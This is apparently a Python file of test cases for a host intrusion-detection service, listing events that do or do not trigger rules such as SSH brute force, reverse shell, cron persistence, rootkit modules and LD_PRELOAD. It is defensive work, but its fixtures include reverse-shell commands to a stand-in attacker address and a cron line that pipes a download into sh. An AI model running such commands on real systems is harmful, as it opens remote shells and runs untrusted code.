"""For each rule: what fires it, what is just not enough, and what looks like it and is harmless."""

# ruff: noqa: S108 - programs in temporary folders are what a rule is about
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from hub.detections.events import EventKind, SecurityEvent
from hub.detections.models import RuleKind
from hub.severity import Severity
from tests.hub.detections.scene import ATTACKER, refusals, seen, sign_in

KNOWN = "b" * 64


@dataclass(frozen=True)
class Case:
    """Events in the order they happened, and what the rule makes of them: nothing, or a subject."""

    rule: RuleKind
    name: str
    events: Sequence[SecurityEvent]
    subject: str | None = None
    severity: Severity | None = None

    @property
    def id(self) -> str:
        """What the test is called."""
        return f"{self.rule.value}: {self.name}"


def ran(path: str, **fields: Any) -> SecurityEvent:
    """Return the start of a program."""
    return seen(EventKind.PROCESS_STARTED, path=path, process=path.rpartition("/")[2], **fields)


def wrote(kind: EventKind, path: str, **fields: Any) -> SecurityEvent:
    """Return the change of a file."""
    return seen(kind, path=path, **fields)


def opened(port: int, **fields: Any) -> SecurityEvent:
    """Return something that accepts connections now."""
    defaults: dict[str, Any] = {
        "protocol": "tcp",
        "process": "nginx",
        "details": {"address": "0.0.0.0"},  # noqa: S104
    }
    return seen(EventKind.PORT_OPENED, port=port, **(defaults | fields))


def sudo(user: str, **fields: Any) -> SecurityEvent:
    """Return a command that ran through sudo."""
    return seen(EventKind.SUDO_COMMAND, user=user, command="/usr/bin/id", process="sudo", **fields)


def loaded(module: str, **fields: Any) -> SecurityEvent:
    """Return the load of a kernel module."""
    return seen(EventKind.KERNEL_MODULE_LOADED, process=module, **fields)


def preloaded(path: str | None, **fields: Any) -> SecurityEvent:
    """Return a library that is put before the others."""
    return seen(EventKind.PRELOAD_CHANGED, path=path, **fields)


_R, _E = RuleKind, EventKind
DPKG = {"parent": "dpkg"}
VERIFIED = {"package": "nginx", "package_verified": "yes"}

# fmt: off
CASES = [
    Case(_R.SSH_BRUTEFORCE, "eight refusals in two minutes from one address",
         refusals(8, every=17), ATTACKER, Severity.MEDIUM),
    Case(_R.SSH_BRUTEFORCE, "seven refusals in two minutes", refusals(7, every=17)),
    Case(_R.SSH_BRUTEFORCE, "eight refusals, one every twenty seconds", refusals(8, every=20)),
    Case(_R.SSH_BRUTEFORCE, "eight refusals from eight addresses",
         [refusals(1, first=n, source_address=f"198.51.100.{n}")[0] for n in range(8)]),
    Case(_R.SSH_BRUTEFORCE, "eight refusals of a mail server",
         refusals(8, process="dovecot")),
    Case(_R.SSH_BRUTEFORCE, "what the sender folded into one counts in full",
         refusals(1, count=8), ATTACKER, Severity.MEDIUM),
    Case(_R.SSH_BRUTEFORCE, "a thousand refusals are worse",
         refusals(1, count=1000), ATTACKER, Severity.HIGH),
    Case(_R.SSH_BRUTEFORCE, "Wazuh had counted already",
         refusals(1, details={"source": "wazuh", "rule": "5712"}), ATTACKER, Severity.MEDIUM),

    Case(_R.SSH_BRUTEFORCE_SUCCESS, "five refusals and then a sign-in",
         [*refusals(5), sign_in(60)], ATTACKER, Severity.CRITICAL),
    Case(_R.SSH_BRUTEFORCE_SUCCESS, "four refusals and then a sign-in",
         [*refusals(4), sign_in(60)]),
    Case(_R.SSH_BRUTEFORCE_SUCCESS, "five refusals and a sign-in longer after",
         [*refusals(5), sign_in(40 + 241)]),
    Case(_R.SSH_BRUTEFORCE_SUCCESS, "a sign-in and five refusals after it",
         [sign_in(0), *refusals(5, first=10)]),
    Case(_R.SSH_BRUTEFORCE_SUCCESS, "the sign-in of somebody else at the same time",
         [*refusals(5), sign_in(60, source_address="198.51.100.1")]),
    Case(_R.SSH_BRUTEFORCE_SUCCESS, "Wazuh had seen the refusals",
         [sign_in(0, details={"source": "wazuh", "rule": "40112"})], ATTACKER, Severity.CRITICAL),

    Case(_R.SSH_LOGIN_NEW_SOURCE, "an account comes from a new address",
         [sign_in(0)], f"deploy from {ATTACKER}", Severity.LOW),
    Case(_R.SSH_LOGIN_NEW_SOURCE, "an attempt from a new address that is refused", refusals(1)),
    Case(_R.SSH_LOGIN_NEW_SOURCE, "from the host itself", [sign_in(0, source_address="127.0.0.1")]),
    Case(_R.SSH_LOGIN_NEW_SOURCE, "at the console", [sign_in(0, process="login")]),

    Case(_R.NEW_USER, "an account is created",
         [seen(_E.USER_ADDED, user="backdoor", process="useradd")], "backdoor", Severity.MEDIUM),
    Case(_R.NEW_USER, "nobody says which account", [seen(_E.USER_ADDED, process="groupadd")]),
    Case(_R.NEW_USER, "a package makes the account of its service",
         [seen(_E.USER_ADDED, user="postgres", process="useradd", details=DPKG)]),

    Case(_R.NEW_SUDO_USER, "an account is put into the group sudo",
         [wrote(_E.SUDOERS_CHANGED, "/etc/group", user="mallory")], "mallory", Severity.HIGH),
    Case(_R.NEW_SUDO_USER, "an account uses sudo for the first time",
         [sudo("mallory")], "mallory", Severity.MEDIUM),
    Case(_R.NEW_SUDO_USER, "root uses sudo", [sudo("root")]),
    Case(_R.NEW_SUDO_USER, "a package brings its sudoers file",
         [wrote(_E.SUDOERS_CHANGED, "/etc/sudoers.d/nginx", details=VERIFIED)]),

    Case(_R.AUTHORIZED_KEYS_CHANGE, "a key is added",
         [wrote(_E.AUTHORIZED_KEYS_CHANGED, "/root/.ssh/authorized_keys", user="root")],
         "/root/.ssh/authorized_keys", Severity.HIGH),
    Case(_R.AUTHORIZED_KEYS_CHANGE, "nobody says whose",
         [seen(_E.AUTHORIZED_KEYS_CHANGED)]),
    Case(_R.AUTHORIZED_KEYS_CHANGE, "the same keys are written again",
         [wrote(_E.AUTHORIZED_KEYS_CHANGED, "/root/.ssh/authorized_keys", sha256=KNOWN,
                details={"before": KNOWN})]),

    Case(_R.NEW_LISTENING_PORT, "a port that was never open",
         [opened(9187)], "tcp/9187", Severity.MEDIUM),
    Case(_R.NEW_LISTENING_PORT, "a port that tools of intruders open",
         [opened(4444, process="nc")], "tcp/4444", Severity.HIGH),
    Case(_R.NEW_LISTENING_PORT, "the last port of UDP services",
         [opened(32_767, protocol="udp")], "udp/32767", Severity.MEDIUM),
    Case(_R.NEW_LISTENING_PORT, "a UDP port that waits for an answer",
         [opened(32_768, protocol="udp")]),
    Case(_R.NEW_LISTENING_PORT, "a port that only the host itself reaches",
         [opened(9187, details={"address": one}) for one in ("127.0.0.1", "::1")]),

    Case(_R.PROCESS_FROM_TMP, "a program in /tmp", [ran("/tmp/x")], "/tmp/x", Severity.HIGH),
    Case(_R.PROCESS_FROM_TMP, "a program that deleted itself",
         [ran("/dev/shm/x (deleted)")], "/dev/shm/x", Severity.CRITICAL),
    Case(_R.PROCESS_FROM_TMP, "a program that is only in memory",
         [ran("/memfd:payload (deleted)")], "/memfd:payload", Severity.CRITICAL),
    Case(_R.PROCESS_FROM_TMP, "a folder whose name begins alike", [ran("/tmpfiles/x")]),
    Case(_R.PROCESS_FROM_TMP, "the configuration script of a package",
         [ran("/tmp/openssh.config.Kx3", details=DPKG), ran("/tmp/apt-dpkg-install-1/x")]),
    Case(_R.PROCESS_FROM_TMP, "a disguise as a package manager", [ran("/tmp/apt")], "/tmp/apt"),

    Case(_R.REVERSE_SHELL, "a shell whose input is a connection",
         [seen(_E.SHELL_ON_SOCKET, process="bash", source_address=ATTACKER)],
         ATTACKER, Severity.CRITICAL),
    Case(_R.REVERSE_SHELL, "bash is told to",
         [ran("/bin/bash", command=f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1")], "bash"),
    Case(_R.REVERSE_SHELL, "netcat is told to",
         [ran("/bin/nc", command=f"nc {ATTACKER} 4444 -e /bin/sh")], "nc"),
    Case(_R.REVERSE_SHELL, "netcat that runs nothing",
         [ran("/bin/nc", command="nc -z db.example.com 5432")]),
    Case(_R.REVERSE_SHELL, "a program that talks to its own shell",
         [seen(_E.SHELL_ON_SOCKET, process="sh", source_address="127.0.0.1")]),

    Case(_R.CRON_PERSISTENCE, "a job is added",
         [wrote(_E.CRON_CHANGED, "/etc/cron.d/x")], "/etc/cron.d/x", Severity.MEDIUM),
    Case(_R.CRON_PERSISTENCE, "a job that fetches what it runs",
         [wrote(_E.CRON_CHANGED, "/etc/cron.d/x", command="curl http://198.51.100.1/x | sh")],
         "/etc/cron.d/x", Severity.HIGH),
    Case(_R.CRON_PERSISTENCE, "nobody says which", [seen(_E.CRON_CHANGED)]),
    Case(_R.CRON_PERSISTENCE, "a package brings its job",
         [wrote(_E.CRON_CHANGED, "/etc/cron.daily/dpkg", details=VERIFIED),
          wrote(_E.CRON_CHANGED, "/etc/cron.d/php", process="dpkg")]),

    Case(_R.KERNEL_MODULE_LOAD, "a module that lies anywhere",
         [loaded("evil", path="/root/evil.ko")], "evil", Severity.HIGH),
    Case(_R.KERNEL_MODULE_LOAD, "a rootkit by its name, wherever it lies",
         [loaded("diamorphine", path="/lib/modules/6.1.0/kernel/diamorphine.ko")],
         "diamorphine", Severity.CRITICAL),
    Case(_R.KERNEL_MODULE_LOAD, "only the command line is known",
         [loaded("insmod", command="insmod -f /root/evil.ko")], "evil", Severity.HIGH),
    Case(_R.KERNEL_MODULE_LOAD, "nobody says which", [seen(_E.KERNEL_MODULE_LOADED)]),
    Case(_R.KERNEL_MODULE_LOAD, "modules of the kernel and of DKMS",
         [loaded("nf_tables", path="/lib/modules/6.1.0/kernel/net/netfilter/nf_tables.ko"),
          loaded("wireguard", path="/lib/modules/6.1.0/updates/dkms/wireguard.ko")]),

    Case(_R.LOG_CLEARED, "a log lost lines",
         [wrote(_E.LOG_SHRUNK, "/var/log/auth.log")], "/var/log/auth.log", Severity.HIGH),
    Case(_R.LOG_CLEARED, "nobody says which", [seen(_E.LOG_SHRUNK)]),
    Case(_R.LOG_CLEARED, "logrotate did it",
         [wrote(_E.LOG_SHRUNK, "/var/log/auth.log", process="logrotate"),
          wrote(_E.LOG_SHRUNK, "/var/log/auth.log.2.gz")]),

    Case(_R.FILE_INTEGRITY, "a watched file changed",
         [wrote(_E.FILE_CHANGED, "/etc/hosts")], "/etc/hosts", Severity.MEDIUM),
    Case(_R.FILE_INTEGRITY, "a file that decides who comes in",
         [wrote(_E.FILE_CHANGED, "/etc/pam.d/sshd")], "/etc/pam.d/sshd", Severity.HIGH),
    Case(_R.FILE_INTEGRITY, "it was touched, and is the same",
         [wrote(_E.FILE_CHANGED, "/etc/hosts", sha256=KNOWN, details={"before": KNOWN})]),
    Case(_R.FILE_INTEGRITY, "an update changed it",
         [wrote(_E.FILE_CHANGED, "/etc/pam.d/sshd", details=VERIFIED)]),

    Case(_R.BINARY_HASH_MISMATCH, "a running program is another",
         [wrote(_E.BINARY_CHANGED, "/usr/sbin/sshd")], "/usr/sbin/sshd", Severity.HIGH),
    Case(_R.BINARY_HASH_MISMATCH, "its package says that it is not the one",
         [wrote(_E.BINARY_CHANGED, "/usr/sbin/sshd",
                details={"package": "openssh-server", "package_verified": "no"})],
         "/usr/sbin/sshd", Severity.HIGH),
    Case(_R.BINARY_HASH_MISMATCH, "nobody says which", [seen(_E.BINARY_CHANGED)]),
    Case(_R.BINARY_HASH_MISMATCH, "an unattended upgrade brought it",
         [wrote(_E.BINARY_CHANGED, "/usr/sbin/nginx", details=VERIFIED)]),

    Case(_R.CRYPTOMINER, "a miner by its name",
         [ran("/opt/xmrig")], "xmrig", Severity.CRITICAL),
    Case(_R.CRYPTOMINER, "a miner by its command line",
         [ran("/usr/bin/kworkerds", command="x -o stratum+tcp://pool.example.com:3333")],
         "kworkerds", Severity.CRITICAL),
    Case(_R.CRYPTOMINER, "a connection to the port of pools",
         [seen(_E.OUTBOUND_CONNECTION, process="worker", port=14444, source_address=ATTACKER)],
         "worker", Severity.HIGH),
    Case(_R.CRYPTOMINER, "a connection to a port that everybody uses",
         [seen(_E.OUTBOUND_CONNECTION, process="worker", port=3333, source_address=ATTACKER)]),
    Case(_R.CRYPTOMINER, "a web page about mining",
         [ran("/usr/bin/curl", command="curl https://example.com/what-is-stratum")]),

    Case(_R.HONEYPOT_CANARY, "somebody opened it",
         [wrote(_E.HONEYPOT_TOUCHED, "/root/passwords.txt", process="cat", user="www-data")],
         "/root/passwords.txt", Severity.HIGH),
    Case(_R.HONEYPOT_CANARY, "nobody says which", [seen(_E.HONEYPOT_TOUCHED)]),
    Case(_R.HONEYPOT_CANARY, "the backup reads everything",
         [wrote(_E.HONEYPOT_TOUCHED, "/root/passwords.txt", process="restic"),
          wrote(_E.HONEYPOT_TOUCHED, "/root/passwords.txt", process="updatedb")]),

    Case(_R.LD_PRELOAD, "a library for every program",
         [preloaded("/etc/ld.so.preload")], "/etc/ld.so.preload", Severity.CRITICAL),
    Case(_R.LD_PRELOAD, "a library from a temporary folder",
         [preloaded(None, process="nginx", details={"library": "/dev/shm/libjemalloc.so"})],
         "nginx", Severity.CRITICAL),
    Case(_R.LD_PRELOAD, "an unknown library for one program",
         [preloaded(None, process="nginx", details={"library": "/opt/hook.so"})],
         "nginx", Severity.HIGH),
    Case(_R.LD_PRELOAD, "nobody says for which", [preloaded(None)]),
    Case(_R.LD_PRELOAD, "an allocator, as its makers tell people to load it",
         [preloaded(None, process="redis-server",
                    details={"library": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"})]),
]
# fmt: on
